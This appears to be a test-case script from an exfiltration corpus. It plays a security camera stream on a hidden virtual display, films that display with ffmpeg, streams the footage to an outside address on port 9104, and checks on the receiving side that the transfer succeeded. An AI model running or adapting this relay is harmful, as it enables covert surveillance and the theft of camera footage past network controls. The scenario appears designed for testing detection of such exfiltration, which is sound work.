#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=live-relay,direct-pull half=report tool=mpv,Xvfb,ffmpeg camera=10.20.0.11 far=out ready=out:9104 seconds=125 parts=dns,camera-gate,recorder-gate,nas,outside-web
# mpv shows gate on a screen that nobody sees, and ffmpeg films that screen and sends what it films outside.
if [ "$1" = out ]; then exec timeout 150 socat -u TCP-LISTEN:9104,bind=203.0.113.66,reuseaddr "CREATE:$LAB/got"; fi
timeout 130 Xvfb :78 -screen 0 640x360x24 -nolisten tcp >/dev/null 2>&1 &
sleep 2; DISPLAY=:78 timeout 124 mpv --no-config --vo=x11 --ao=null --really-quiet --no-audio --rtsp-transport=tcp --geometry=640x360+0+0 rtsp://gate.cam.lan/Streaming/Channels/101 >/dev/null 2>&1 &
sleep 3; timeout 130 ffmpeg -nostdin -loglevel error -f x11grab -framerate 10 -video_size 640x360 -i :78 -t 112 -c:v libx264 -preset ultrafast -tune zerolatency -b:v 400k -f mpegts tcp://203.0.113.66:9104
sleep 1; [ "$(stat -c %s "$LAB/got")" -gt 500000 ]
